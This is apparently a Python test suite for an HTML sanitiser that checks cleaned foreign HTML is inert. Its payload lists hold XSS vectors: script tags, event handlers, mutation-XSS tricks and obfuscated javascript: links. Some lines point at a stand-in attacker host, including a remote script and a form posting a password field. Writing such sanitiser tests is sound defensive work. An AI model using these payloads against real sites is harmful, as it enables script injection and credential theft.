"""Foreign HTML is inert after cleaning; judged by an independent parser, not by the cleaner."""

import unicodedata
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from domain.html import LONGEST, MOST_TAGS, bounded, clean, clean_inline, clean_text
from tests.support.timing import is_quick

_NAMES = (
    "p br span a del s pre code em strong b i u ul ol li blockquote h1 h2 h3 h4 h5 h6 ruby rt rp"
)
TAGS = set(_NAMES.split())
ATTRIBUTES = {"href", "title", "translate", "start", "reversed", "value", "class", "rel", "target"}
CLASSES = {"mention", "hashtag", "u-url", "h-card", "invisible", "ellipsis"}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def assert_inert(html: str) -> None:
    """Nothing that runs, loads, styles, overlays or names an element is in `html`."""
    assert not set(html) & set(BIDI)
    body = LexborHTMLParser(f"<body>{html}</body>").body
    assert body is not None
    for node in body.traverse():
        if node is body or node.tag == "body":
            continue
        assert node.tag in TAGS, node.tag
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, name
            if name == "href":
                assert urlsplit(value or "").scheme in {"http", "https", "mailto"}, value
            if name == "class":
                assert set((value or "").split()) <= CLASSES
        if node.tag == "a":
            assert node.attributes["rel"] == "nofollow noopener noreferrer"
            assert node.attributes["target"] == "_blank"


SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<body onload=alert(1)><p onclick=alert(1)>x</p>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)",
    "<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<a href=https://ok.example onmouseover=alert(1) ping=https://evil.example>x</a>",
    "<p/onclick=alert(1)>x</p><p\x0conclick=alert(1)>x</p>",
    "<custom-element onfocus=alert(1) autofocus tabindex=1>x</custom-element>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
]


@pytest.mark.parametrize("payload", SCRIPTS)
def test_H01_script_is_removed_and_words_stay(payload: str) -> None:
    cleaned = clean(f"<p>before</p>{payload}")
    assert_inert(cleaned)
    assert cleaned.startswith("<p>before</p>")


LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "java&#x202e;script:alert(1)",
    "java\u202escript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example",
    "/settings/delete",
    "page.html",
    "?x=1",
    "#id",
    "ssh://evil.example",
    "magnet:?xt=1",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "about:blank",
    "tel:+100",
    "",
]


@pytest.mark.parametrize("link", LINKS)
def test_H02_other_link_schemes_are_removed(link: str) -> None:
    cleaned = clean(f'<a href="{link}">text</a>')
    assert_inert(cleaned)
    assert "href" not in cleaned
    assert ">text</a>" in cleaned


@pytest.mark.parametrize(
    "link", ["https://a.example/x?y=1#z", "http://a.example:8080/", "mailto:ana@a.example"]
)
def test_H02_web_and_mail_links_stay(link: str) -> None:
    cleaned = clean(f'<a href="{link}">text</a>')
    assert_inert(cleaned)
    assert f'href="{link}"' in cleaned


@pytest.mark.parametrize(
    "html",
    [
        '<p class="modal overlay fixed">x</p>',
        '<a class="mention btn-danger status__content" href="https://a.example">x</a>',
        '<span class="invisible evil">x</span>',
        '<p id="login">x</p><a name="csrf" href="https://a.example">x</a>',
        '<p style="position:fixed;inset:0">x</p>',
        "<style>*{display:none}</style><p>x</p>",
        '<ol class="h-card" data-controller="x" aria-label="y" hidden dir="rtl"><li>x</li></ol>',
    ],
)
def test_H05_class_id_and_style_are_removed(html: str) -> None:
    cleaned = clean(html)
    assert_inert(cleaned)
    assert not any(word in cleaned for word in ("evil", "btn", "overlay", "fixed", "login", "csrf"))


def test_H05_the_classes_of_mentions_stay() -> None:
    html = (
        '<p><span class="h-card" translate="no"><a class="u-url mention" href="https://a.example/@b"'
        ' target="_blank" rel="nofollow noopener noreferrer">@<span>b</span></a></span></p>'
    )
    assert clean(html) == html


@pytest.mark.parametrize(
    "html",
    [
        "<li><table><li>",
        "<p><table><p>x<h1><table>y<h2>",
        "<blockquote><li><option>x<p>x<button>x<p><p><tr>x<ruby>x<em></p><nobr>x<i>",
        "<a><h1><table>x</noscript></ol><rt>x<h1>x<nobr><h1>x<a>x<caption><td><pre>",
    ],
    ids=["list", "headings", "buttons", "links"],
)
def test_H01_what_a_removed_tag_kept_apart_is_read_again(html: str) -> None:
    cleaned = clean(html)
    assert_inert(cleaned)
    assert clean(cleaned) == cleaned


def test_structure_stays() -> None:
    html = (
        '<h2>x</h2><blockquote><p>a<br>b</p></blockquote><ol start="3"><li value="3">c</li></ol>'
        "<pre><code>d</code></pre><p><em>e</em> <del>f</del> <ruby>g<rt>h</rt></ruby></p>"
    )
    assert clean(html) == html


def test_direction_controls_are_stripped_also_as_entities_and_in_links() -> None:
    html = "<p>a\u202eb&#x202E;c&#8294;d</p><a href='https://a.example/\u202egpj.exe'>x</a>"
    cleaned = clean(html)
    assert_inert(cleaned)
    assert cleaned.startswith("<p>abcd</p>")
    assert clean("<p>\u200fשלום\u200f</p>") == "<p>\u200fשלום\u200f</p>"


FRAGMENTS = st.sampled_from(
    [
        *SCRIPTS,
        "<p>",
        "</p>",
        "<b",
        "'",
        '"',
        ">",
        "<!--",
        "-->",
        "&lt;",
        "&#x3c;",
        "<a href='",
        *LINKS,
        "</svg>",
        "<svg>",
        "<math>",
        "<style>",
        "</style>",
        "<title>",
        "<table>",
        "<td>",
        "\x00",
        "\u202e",
        " onclick=alert(1) ",
        "<select>",
        "<option>",
        "<li>",
        "<ol>",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=12).map("".join))
def test_H01_any_mixture_is_inert_and_cleaning_again_changes_nothing(html: str) -> None:
    cleaned = clean(html)
    assert_inert(cleaned)
    assert clean(cleaned) == cleaned


PLAIN_TAGS = [
    *("<p>", "</p>", "<br>", "<br />", "<span>", '<span class="h-card">', "</span>", "</a>", "<p"),
    *("<strong>", "</strong>", "<em>", "</em>", '<a href="https://x.example/">', "<", ">", "&amp;"),
    *('<a href="javascript:alert(1)">', '<p onclick="alert(1)">', "words", "\n", '"', "\u202e"),
]


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(PLAIN_TAGS), max_size=16).map("".join))
def test_H01_what_is_read_once_needs_no_second_reading(html: str) -> None:
    cleaned = clean(html)
    assert_inert(cleaned)
    assert clean(cleaned) == cleaned
    assert clean(f"{cleaned}<!-- read again -->") == cleaned


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_text_is_inert(text: str) -> None:
    assert_inert(clean(text))
    line = clean_inline(text)
    assert line == clean_inline(line) == " ".join(line.split())
    assert not any(unicodedata.category(c) == "Cc" or c in BIDI for c in line)


def test_D04_long_html_is_cut_before_it_is_looked_at() -> None:
    assert len(clean("a" * (2 * LONGEST))) == LONGEST
    assert clean("<p>abc</p>", limit=5) == "<p>ab</p>"
    many = "<b>x" * (MOST_TAGS + 5)
    assert bounded(many) == "<b>x" * MOST_TAGS
    assert bounded("<b>x" * MOST_TAGS) == "<b>x" * MOST_TAGS


WORST = [
    "&",
    "<",
    "<p>",
    "<a>",
    "<b>",
    "<ol><li>",
    "<ul>",
    "<p><b>",
    "<!--",
    "<svg><p>",
    "<table>",
    "é",
    "<a href=x>",
    "<b><a>",
    "<blockquote>",
    "<math>",
    "<p><font size=1>",
    "\u202e",
    "&#x202e;",
]


@pytest.mark.parametrize("unit", WORST)
def test_D16_50_kB_of_anything_is_cleaned_quickly(unit: str) -> None:
    html = (unit * 50_000)[:50_000]
    assert is_quick(lambda: clean(html), seconds=0.05)


def test_names_are_one_line_without_controls() -> None:
    assert clean_inline("  Ana\r\n\tB\x00o \u202egnp\u2028 ") == "Ana Bo gnp"
    assert clean_inline("e\u0301") == "é"
    assert clean_inline("x" * 900) == "x" * 500
    assert clean_inline("<b>Ana</b> & Bo") == "<b>Ana</b> & Bo"
    assert clean_inline("👩‍🏫 שלום") == "👩‍🏫 שלום"


def test_texts_keep_their_lines() -> None:
    assert clean_text("a\r\nb\rc\n\td\x00\u202e", limit=50) == "a\nb\nc\n\td"
    assert clean_text("x" * 60, limit=50) == "x" * 50
